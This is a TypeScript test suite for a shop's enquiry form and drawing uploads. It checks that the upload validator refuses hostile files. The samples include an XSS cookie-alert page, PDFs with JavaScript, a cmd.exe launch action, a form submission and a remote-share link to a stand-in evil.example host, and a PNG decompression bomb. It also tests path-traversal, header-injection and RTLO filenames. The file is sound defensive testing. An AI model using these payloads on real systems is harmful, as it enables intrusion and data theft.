import { randomUUID } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Enquiry } from '#contract/content/enquiries.ts';
import { ATTACHMENT_BYTES_MAX } from '#contract/content/enquiry-facts.ts';
import { bombPng, formWith, photograph } from '#server/platform/uploads/uploads.fixture.ts';
import { allRows } from '#server/testing/all-rows.ts';
import { expectProblem, unknownId } from '#server/testing/every-call.ts';
import { mailsTo } from '#server/testing/mailbox.ts';
import { type Answered, openShop, openShopForTest, type Person, type TestShop } from '#server/testing/open-shop.ts';
import { cleanName } from './attachments.ts';
import { forgetClosed, forgetWaiting } from './enquiries.repository.ts';

let shop: TestShop;
let admin: Person;
let buyer: Person;
beforeAll(async () => {
  shop = await openShop();
  [admin, buyer] = [await shop.admin(), await shop.signUp()];
});
afterAll(() => shop.close());

const pdf = (body = 'a frame') => Buffer.from(`%PDF-1.7\n${body}\n%%EOF\n`, 'latin1');
/** A PDF whose objects are packed. */
const packedPdf = (objects: string) => {
  const packed = deflateSync(Buffer.from(objects)).toString('latin1');
  return pdf(
    `3 0 obj << /Type /ObjStm /Filter /FlateDecode /Length ${packed.length} >> stream\n${packed}\nendstream endobj`,
  );
};
const sendAttachment = (bytes: Buffer, name = 'touring-frame-54.pdf', type = 'application/pdf') =>
  shop.ask('POST', '/enquiries/drawings', formWith(bytes, { name, type, field: 'file' }));
const form = (more: object = {}) => ({
  key: randomUUID(),
  company: 'Velo Marchand',
  email: 'atelier@velomarchand.example',
  builds: 'frames',
  quantity: 1200,
  message: 'Touring frame in 4130 steel.\nFirst lot 300.',
  ...more,
});
const send = (body: object): Promise<Answered> => shop.ask('POST', '/enquiries', { body });
const list = (query: Record<string, string> = {}, as = admin) =>
  shop.ask('GET', `/manage/enquiries?${new URLSearchParams(query)}`, { as });
async function storedOf(company: string): Promise<Enquiry> {
  const [found] = (await list({ q: company })).body;
  return found;
}

describe('an enquiry', () => {
  // Spec: R15
  test('is numbered, mailed to the company with a receipt to its sender, and admins can download its drawing', async () => {
    const bytes = pdf('x'.repeat(3000));
    const attachment = (await sendAttachment(bytes, '..\\..\\Zeichnung größe.exe')).body;
    expect(attachment).toEqual({
      file: expect.any(String),
      name: 'Zeichnung größe.exe.pdf',
      type: 'application/pdf',
      size: bytes.length,
    });
    const company = 'Velo <b>Marchand</b> & Fils';
    const { status, body } = await send(form({ company, files: [attachment.file] }));
    expect({ status, body }).toEqual({ status: 200, body: { number: expect.any(Number), files: [attachment.name] } });

    const [mail] = await mailsTo(shop, shop.config.merchant.email);
    const [receipt] = await mailsTo(shop, 'atelier@velomarchand.example');
    expect(mail?.subject).toBe(`Enquiry ${body.number} from ${company}`);
    for (const part of ['atelier@velomarchand.example', 'Frames and forks', '1,200', 'First lot 300.', attachment.name])
      expect(mail?.text).toContain(part);
    expect(mail?.html).not.toContain('<b>Marchand');
    expect(receipt?.text).toContain(`number ${body.number}`);
    // The address may be anybody's: what the sender wrote is not mailed there.
    for (const written of ['First lot', 'Marchand ', 'Zeichnung'])
      expect(`${receipt?.subject}${receipt?.text}${receipt?.html}`).not.toContain(written);
    const { rows } = await shop.checkout.db.execute(
      sql`select to_address, reply_to from mail where subject like ${`%${body.number}%`} order by to_address`,
    );
    expect(rows).toEqual([
      { to_address: 'atelier@velomarchand.example', reply_to: shop.config.merchant.email },
      { to_address: shop.config.merchant.email, reply_to: 'atelier@velomarchand.example' },
    ]);

    const enquiry = await storedOf(company);
    expect(enquiry).toMatchObject({
      number: body.number,
      quantity: 1200,
      state: 'new',
      topic: 'manufacturing',
      waits: true,
      files: [{ name: attachment.name }],
    });
    expect(mail?.text).toContain(`/dashboard/enquiries/${enquiry._id}`);
    const path = `/manage/enquiries/${enquiry._id}/drawings/${enquiry.files[0]?._id}`;
    const got = await shop.app.inject({
      method: 'GET',
      url: `/api${path}`,
      headers: { host: 'localhost:3000', authorization: `Bearer ${admin.token}` },
    });
    expect(got.rawPayload.equals(bytes)).toBe(true);
    expect(got.headers).toMatchObject({
      'content-type': 'application/pdf',
      'content-disposition': expect.stringMatching(
        /^attachment; filename="Zeichnung-gr-.*\.exe\.pdf"; filename\*=UTF-8''Z/,
      ),
      'x-content-type-options': 'nosniff',
      'content-security-policy': expect.stringContaining('sandbox'),
      'cache-control': 'private, no-store',
    });
    for (const each of [path, '/manage/enquiries', `/manage/enquiries/${enquiry._id}`]) {
      expectProblem(await shop.ask('GET', each, { as: buyer }), 403, 'forbidden');
      expectProblem(await shop.ask('GET', each), 401, 'unauthorized');
    }
  });

  test('sent again after no answer came has the same number and sends no more mails; its key is good for no other address', async () => {
    const enquiry = form({ company: 'Sent Twice' });
    const [one, other] = await Promise.all([send(enquiry), send(enquiry)]);
    expect(one.status).toBe(200);
    expect(other.body).toEqual(one.body);
    expect((await list({ q: 'Sent Twice' })).body).toHaveLength(1);
    const mails = (await mailsTo(shop, shop.config.merchant.email)).filter(({ subject }) => /Sent Twice/.test(subject));
    expect(mails).toHaveLength(1);
    expectProblem(await send({ ...enquiry, email: 'thief@shop.example' }), 400, 'invalid-request');
  });

  test('takes a drawing that waits, and never one that belongs to another or that nobody sent', async () => {
    const { file } = (await sendAttachment(pdf())).body;
    expect((await send(form({ files: [file] }))).status).toBe(200);
    const before = await allRows(shop.checkout.db);
    for (const gone of [file, unknownId]) {
      const answer = await send(form({ files: [gone] }));
      expectProblem(answer, 400, 'invalid-request');
      expect(answer.body.errors).toEqual({ files: 'A file was not kept this long. Please choose it again.' });
    }
    expect(await allRows(shop.checkout.db)).toEqual(before);
  });

  test('says of each field what is wrong with it', async () => {
    const answer = await send(form({ company: ' ', email: 'atelier@', builds: 'cars', quantity: 0.5, message: '' }));
    expectProblem(answer, 400, 'invalid-request');
    expect(answer.body.errors).toEqual({
      company: 'Company is Required',
      email: 'Please provide a valid email',
      builds: 'Please choose what you build',
      quantity: 'Yearly quantity is a whole number of 1 or more',
      message: 'Message is Required',
    });
  });

  test('is found by company, email, message and number, page by page, and filtered by state', async () => {
    for (const turn of [1, 2, 3]) await send(form({ company: `Paged ${turn}`, message: `needle_${turn}, 100% of it` }));
    const names = async (query: Record<string, string>) => {
      const { body, headers } = await list(query);
      return [...body.map(({ company }: Enquiry) => company), Number(headers['x-total-count'])];
    };
    expect(await names({ q: 'NEEDLE_' })).toEqual(['Paged 3', 'Paged 2', 'Paged 1', 3]);
    expect(await names({ q: 'n%edle' })).toEqual([0]);
    const first = await list({ q: 'needle_', limit: '2' });
    const cursor = new URL(/<([^>]+)>/.exec(String(first.headers.link))?.[1] ?? '', 'http://shop').searchParams.get(
      'cursor',
    );
    expect(await names({ q: 'needle_', limit: '2', cursor: cursor ?? '' })).toEqual(['Paged 1', 3]);
    expectProblem(await list({ cursor: 'made-up' }), 400, 'invalid-request');

    const { _id, number } = await storedOf('Paged 2');
    expect(await names({ q: String(number) })).toContain('Paged 2');
    const figures = async () => (await shop.ask('GET', '/manage/figures', { as: admin })).body.enquiries;
    const before = await figures();
    const change = (state: string, as = admin) => shop.ask('PUT', `/manage/enquiries/${_id}`, { as, body: { state } });
    expectProblem(await change('answered', buyer), 403, 'forbidden');
    expect((await change('answered')).body).toMatchObject({ state: 'answered', changedAt: expect.any(String) });
    await change('answered');
    expect(await figures()).toEqual({
      ...before,
      waiting: before.waiting - 1,
      new: before.new - 1,
      answered: before.answered + 1,
    });
    expect(await names({ q: 'needle_', state: 'answered' })).toEqual(['Paged 2', 1]);
    await change('closed');
    const log = (await shop.ask('GET', '/audit?what=enquiries', { as: admin })).body.entries;
    expect(log.map(({ what, on }: Record<string, string>) => [what, on])).toEqual([
      ['Enquiry closed', `Enquiry ${number}`],
      ['Enquiry answered', `Enquiry ${number}`],
    ]);
    expectProblem(await shop.ask('GET', `/manage/enquiries/${unknownId}`, { as: admin }), 404, 'not-found');
    expectProblem(
      await shop.ask('GET', `/manage/enquiries/${_id}/drawings/${unknownId}`, { as: admin }),
      404,
      'not-found',
    );
  });
});

describe('a drawing', () => {
  test.each(['jpeg', 'png'] as const)('is stored as it is where it is a whole %s', async (format) => {
    const bytes = await photograph(300, 200).toFormat(format).toBuffer();
    expect((await sendAttachment(bytes, 'hub', 'text/html')).body).toMatchObject({
      name: `hub.${format === 'jpeg' ? 'jpg' : 'png'}`,
      type: `image/${format}`,
      size: bytes.length,
    });
  });

  const page = '<!doctype html><script>alert(document.cookie)</script>';
  const hostile: [string, () => Buffer | Promise<Buffer>, string][] = [
    ['nothing', () => Buffer.alloc(0), 'plan.pdf is empty.'],
    [
      'a page',
      () => Buffer.from(page),
      'plan.pdf is no PDF, JPEG or PNG, whatever its name says. Send PDF, JPEG or PNG.',
    ],
    [
      'a page with a PDF in it',
      () => Buffer.concat([Buffer.from(page), pdf()]),
      'plan.pdf is no PDF, JPEG or PNG, whatever its name says. Send PDF, JPEG or PNG.',
    ],
    [
      'a WebP',
      () => photograph(40, 30).webp().toBuffer(),
      'plan.pdf is no PDF, JPEG or PNG, whatever its name says. Send PDF, JPEG or PNG.',
    ],
    ...(
      [
        ['a script', pdf('<< /S /JavaScript /JS (app.alert(1)) >>')],
        ['a script under another spelling', pdf('<< /S /J#61vaScript /J#53 (app.alert(1)) >>')],
        ['a packed script', packedPdf('<< /S /JavaScript /JS (app.alert(1)) >>')],
        ['a program', pdf('<< /S /Launch /F (cmd.exe) >>')],
        ['a form that sends itself', packedPdf('<< /S /SubmitForm /F (https://evil.example) >>')],
        ['a way to a file elsewhere', pdf('<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\a.pdf) >>')],
        ['a way to a file within', pdf('<< /S /GoToE /T << /R /C >> >>')],
        ['a file within', pdf('<< /Type /Filespec /EF << /F 3 0 R >> /Names << /EmbeddedFiles 4 0 R >> >>')],
      ] as const
    ).map(
      ([what, bytes]) =>
        [
          `a PDF with ${what}`,
          () => bytes,
          'plan.pdf holds scripts, actions or other files. Please print it to a new PDF, and send that.',
        ] as [string, () => Buffer, string],
    ),
    [
      'an encrypted PDF',
      () => pdf('trailer << /Encrypt 5 0 R >>'),
      'plan.pdf is encrypted, so that nobody can look into it. Please print it to a new PDF, and send that.',
    ],
    [
      'a PDF of nothing but beginnings',
      () => pdf('stream'.repeat(100_000)),
      'plan.pdf is packed in a way that nobody can look into. Please print it to a new PDF, and send that.',
    ],
    ['a PDF cut off', () => pdf().subarray(0, -8), 'plan.pdf ends too early: the file is not whole.'],
    [
      'a PDF of no version',
      () => Buffer.from('%PDF-x\n%%EOF'),
      'plan.pdf is no PDF, whatever its name says. Send PDF, JPEG or PNG.',
    ],
    [
      'a JPEG cut off',
      async () => (await photograph(90, 60).jpeg().toBuffer()).subarray(0, -90),
      'plan.pdf.jpg ends too early: the file is not whole.',
    ],
    [
      'a PNG with wrong bytes',
      async () => (await photograph(90, 60).png().toBuffer()).fill(7, 800, 900),
      'plan.pdf.png is damaged and cannot be drawn. Please save it anew, and send that.',
    ],
    ['a PNG that unfolds', () => bombPng(8000), 'plan.pdf.png has 64 megapixels. At most 50 are taken.'],
    [
      'a JPEG and a page',
      async () => Buffer.concat([await photograph(90, 60).jpeg().toBuffer(), Buffer.from(page)]),
      'plan.pdf.jpg carries something else behind the picture. Please save it anew, and send that.',
    ],
  ];
  // Spec: R15
  test.each(hostile)('is refused with its own message: %s', async (_what, make, message) => {
    const before = await allRows(shop.checkout.db);
    const answer = await sendAttachment(await make(), 'plan.pdf');
    expectProblem(answer, 422, 'file-refused');
    expect(answer.body).toMatchObject({ detail: message, errors: { file: message } });
    expect(await allRows(shop.checkout.db)).toEqual(before);
  });

  test('is refused where it is too large, in another field, or no form', async () => {
    expectProblem(await sendAttachment(Buffer.alloc(ATTACHMENT_BYTES_MAX + 1)), 413, 'too-large');
    expectProblem(
      await shop.ask('POST', '/enquiries/drawings', formWith(pdf(), { field: 'image' })),
      400,
      'invalid-request',
    );
    expectProblem(await shop.ask('POST', '/enquiries/drawings', { body: { file: 'x' } }), 415, 'unsupported-media');
  });

  test('has a name that no system reads as a path, a header or another kind of file', () => {
    const pdfName = (name: string) => cleanName(name, 'application/pdf');
    expect(pdfName('../../etc/passwd')).toBe('passwd.pdf');
    expect(pdfName('C:\\plans\\Frame.PDF')).toBe('Frame.PDF');
    expect(pdfName('a\r\nX-Planted: "1"\u202efdp.exe')).toBe('a X-Planted 1 fdp.exe.pdf');
    expect(pdfName('...')).toBe('drawing.pdf');
    expect(pdfName('')).toBe('drawing.pdf');
    expect([...pdfName(`${'🚲'.repeat(300)}.pdf`)]).toHaveLength(104);
    expect(cleanName('hub.jpeg', 'image/jpeg')).toBe('hub.jpeg');
  });

  test('that waits too long, and an enquiry closed a year ago, go with all that belongs to them; the others stay', async () => {
    const { db } = shop.checkout;
    const waiting = (await sendAttachment(pdf())).body.file;
    const old = (await sendAttachment(pdf())).body.file;
    const closed = (await sendAttachment(pdf())).body.file;
    await send(form({ company: 'Long Closed', files: [closed] }));
    const { _id } = await storedOf('Long Closed');
    await shop.ask('PUT', `/manage/enquiries/${_id}`, { as: admin, body: { state: 'closed' } });
    await db.execute(sql`update enquiry_drawing set created_at = now() - interval '121 minutes' where id = ${old}`);
    await db.execute(sql`update enquiry set changed_at = now() - interval '366 days' where id = ${_id}`);
    const count = async () => (await list()).body.length;
    const before = await count();
    await forgetWaiting(db, 120);
    await forgetClosed(db);
    const { rows } = await db.execute<{ id: string }>(
      sql`select id from enquiry_drawing where id in (${waiting}, ${old}, ${closed})`,
    );
    expect(rows.map(({ id }) => id)).toEqual([waiting]);
    expect(await count()).toBe(before - 1);
  });
});

test('visitors cannot fill the disk: so many drawings from one address, and so much without an enquiry from all, for a quarter of an hour', async () => {
  const limits = { ...shop.config.limits, enquiry: { perAccount: 2, perAddress: 2, seconds: 600 } };
  const other = await openShopForTest({ config: { limits } });
  const attachment = () => other.ask('POST', '/enquiries/drawings', formWith(pdf(), { field: 'file' }));
  expect([(await attachment()).status, (await attachment()).status, (await attachment()).status]).toEqual([
    200, 200, 429,
  ]);
  await shop.checkout.db.execute(sql`insert into enquiry_drawing (id, name, type, size, bytes)
    values (gen_random_uuid(), 'x.pdf', 'application/pdf', ${1024 ** 3}, ''::bytea)`);
  expectProblem(await sendAttachment(pdf()), 503, 'unavailable');
  await shop.checkout.db.execute(
    sql`update enquiry_drawing set created_at = now() - interval '16 minutes' where name = 'x.pdf'`,
  );
  expect((await sendAttachment(pdf())).status).toBe(200);
});
